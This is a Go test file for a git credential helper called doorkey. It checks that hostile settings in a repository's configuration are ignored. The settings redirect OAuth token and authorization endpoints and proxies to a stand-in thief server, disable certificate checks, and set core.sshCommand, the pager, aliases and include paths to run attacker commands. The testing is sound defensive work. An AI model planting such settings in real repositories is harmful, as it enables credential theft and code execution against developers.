package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"git-credential-doorkey/internal/test/fakegitlab"
	"git-credential-doorkey/internal/test/parts"
)

// repositorySettings are settings in a repository's configuration that an attacker would
// like doorkey to obey. THIEF is the attacker's server, SERVER is the user's, and TRACE is
// a command that leaves a trace.
func repositorySettings() map[string][]string {
	return map[string][]string{
		"client ID":                           {"credential.SERVER.oauthClientId evil"},
		"client secret":                       {"credential.SERVER.oauthClientSecret evil"},
		"scopes":                              {"credential.SERVER.oauthScopes api"},
		"authorization endpoint":              {"credential.SERVER.oauthAuthURL THIEF/authorize"},
		"token endpoint":                      {"credential.SERVER.oauthTokenURL THIEF/token"},
		"device authorization endpoint":       {"credential.SERVER.oauthDeviceAuthURL THIEF/device", "credential.oauthFlow device"},
		"all endpoints":                       {"credential.SERVER.oauthAuthURL THIEF/a", "credential.SERVER.oauthTokenURL THIEF/t", "credential.SERVER.oauthDeviceAuthURL THIEF/d", "credential.SERVER.oauthRevokeURL THIEF/r"},
		"endpoints for every host":            {"credential.oauthAuthURL THIEF/a", "credential.oauthTokenURL THIEF/t"},
		"redirect address":                    {"credential.SERVER.oauthRedirectURL http://127.0.0.1:1/"},
		"make of server":                      {"credential.SERVER.oauthProvider evil"},
		"flow":                                {"credential.SERVER.oauthFlow paste"},
		"place for the key":                   {"credential.SERVER.oauthStore none"},
		"place for the key, another":          {"credential.oauthStore keyring"},
		"time for a sign-in":                  {"credential.SERVER.oauthTimeout 1ms"},
		"nobody to be asked":                  {"credential.interactive false"},
		"value that is no value":              {"credential.SERVER.oauthTimeout forever", "credential.oauthStore cupboard"},
		"proxy":                               {"http.SERVER.proxy THIEF", "http.proxy THIEF"},
		"proxy of another kind":               {"http.proxy socks5h://THIEFHOST", "https.proxy THIEF"},
		"certificates that are trusted":       {"http.SERVER.sslCAInfo /dev/null", "http.sslCAPath /dev/null"},
		"certificates that are not looked at": {"http.SERVER.sslVerify false", "http.sslVerify false"},
		"client certificate":                  {"http.SERVER.sslCert /dev/null", "http.SERVER.sslKey /dev/null"},
		"header for every request":            {"http.extraHeader X-Evil:1"},
		"another address for the server":      {"url.THIEF/.insteadOf SERVER/"},
		"browser":                             {"web.browser evil", "browser.evil.cmd TRACE"},
		"program for passwords":               {"core.askPass TRACE"},
		"programs of git":                     {"core.sshCommand TRACE", "core.editor TRACE", "core.pager TRACE", "core.fsmonitor TRACE", "diff.external TRACE"},
		"alias for doorkey":                   {"alias.credential-doorkey !TRACE", "alias.config !TRACE"},
		"hooks":                               {"core.hooksPath ."},
		"settings in a file":                  {"include.path EVILFILE"},
		"settings in a file for here":         {"includeIf.gitdir:/**.path EVILFILE"},
		"settings of a working tree":          {"extensions.worktreeConfig true"},
		"repository of a later form":          {"core.repositoryFormatVersion 9"},
	}
}

// TestAttackByRepository: if git runs in a repository with any of these settings, sign-in,
// refresh and the next fetch work as they do elsewhere, with the user's server and the
// user's application.
func TestAttackByRepository(t *testing.T) {
	parts.Long(t)
	for name, configured := range repositorySettings() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			v := newVictim(t)
			server, thief := v.signsInAt(t), v.meetsStranger(t, true)
			trace := filepath.Join(v.home, "trace")
			v.clones(t, configured, strings.NewReplacer("SERVER", server.URL(), "THIEFHOST", strings.TrimPrefix(thief.URL, "https://"),
				"THIEF", thief.URL, "TRACE", "touch "+trace, "EVILFILE", filepath.Join(v.home, "evil")))
			request := "protocol=https\nhost=" + strings.TrimPrefix(server.URL(), "https://") + "\n"
			for _, step := range []string{"signs in", "refreshes", "has it"} {
				if step == "refreshes" {
					v.letExpire(t)
				}
				got := v.asks(t, "get", request)
				token := fieldOf(got.stdout, "password")
				if got.code != 0 || !server.Alive(token) || strings.Contains(got.stdout, "oauth_refresh_token") {
					t.Fatalf("%s: %q, %s", step, got.stdout, got.stderr)
				}
			}
			if a, r := server.Count(fakegitlab.TokenAuthorizationCode), server.Count(fakegitlab.TokenRefreshToken); a != 1 || r != 1 {
				t.Errorf("%d codes, %d refreshes", a, r)
			}
			if connections, given := thief.met(); connections > 0 {
				t.Errorf("the thief was met %d times and given %q", connections, given)
			}
			if _, err := os.Lstat(trace); err == nil {
				t.Error("a command of the repository's was run")
			}
			want := "opened " + server.URL() + "/oauth/authorize?client_id=" + server.ClientID() + "&"
			if _, log := v.opened(t); !strings.HasPrefix(log, want) || !strings.Contains(log, "scope=read_repository+write_repository&") {
				t.Errorf("the browser went to\n%s\nwant\n%s", log, want)
			}
		})
	}
}

// clones makes the repository in which the victim's git runs, with the settings that come
// with it.
func (v *victim) clones(t *testing.T, settings []string, names *strings.Replacer) {
	t.Helper()
	v.directory = filepath.Join(v.home, "project")
	v.git(t, "", "init", "-q", v.directory)
	evil := names.Replace("[credential]\n\toauthTokenURL = THIEF/token\n\toauthAuthURL = THIEF/authorize\n\toauthClientId = evil\n[http]\n\tproxy = THIEF\n")
	for _, file := range []string{filepath.Join(v.home, "evil"), filepath.Join(v.directory, ".git", "config.worktree"), filepath.Join(v.directory, ".gitconfig")} {
		if err := os.WriteFile(file, []byte(evil), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, setting := range settings {
		key, value, _ := strings.Cut(setting, " ")
		v.git(t, "", "config", "-f", filepath.Join(v.directory, ".git", "config"), names.Replace(key), names.Replace(value))
	}
}

// fieldOf returns the value of a key in an answer to git.
func fieldOf(answer, key string) string {
	for line := range strings.Lines(answer) {
		if value, found := strings.CutPrefix(strings.TrimSuffix(line, "\n"), key+"="); found {
			return value
		}
	}
	return ""
}

// TestAttackByRepositorysTrust: a repository cannot choose which certificates doorkey
// trusts, either. Only the repository's configuration vouches for the certificate of this
// server.
func TestAttackByRepositorysTrust(t *testing.T) {
	for _, setting := range []string{"http.sslVerify false", "http.SERVER.sslVerify false", "http.sslCAInfo AUTHORITY", "http.SERVER.sslCAInfo AUTHORITY"} {
		t.Run(setting, func(t *testing.T) {
			v := newVictim(t)
			server := v.signsInAt(t)
			v.git(t, "", "config", "--global", "--unset", "http."+server.URL()+".sslCAInfo")
			v.clones(t, []string{setting}, strings.NewReplacer("SERVER", server.URL(), "AUTHORITY", server.CAFile()))
			got := v.asks(t, "get", "protocol=https\nhost="+strings.TrimPrefix(server.URL(), "https://")+"\n")
			if got.code == 0 || !strings.Contains(got.stderr, "certificate") || server.Count(fakegitlab.Token) > 0 {
				t.Errorf("%q, %s; %d requests for tokens", got.stdout, got.stderr, server.Count(fakegitlab.Token))
			}
		})
	}
}
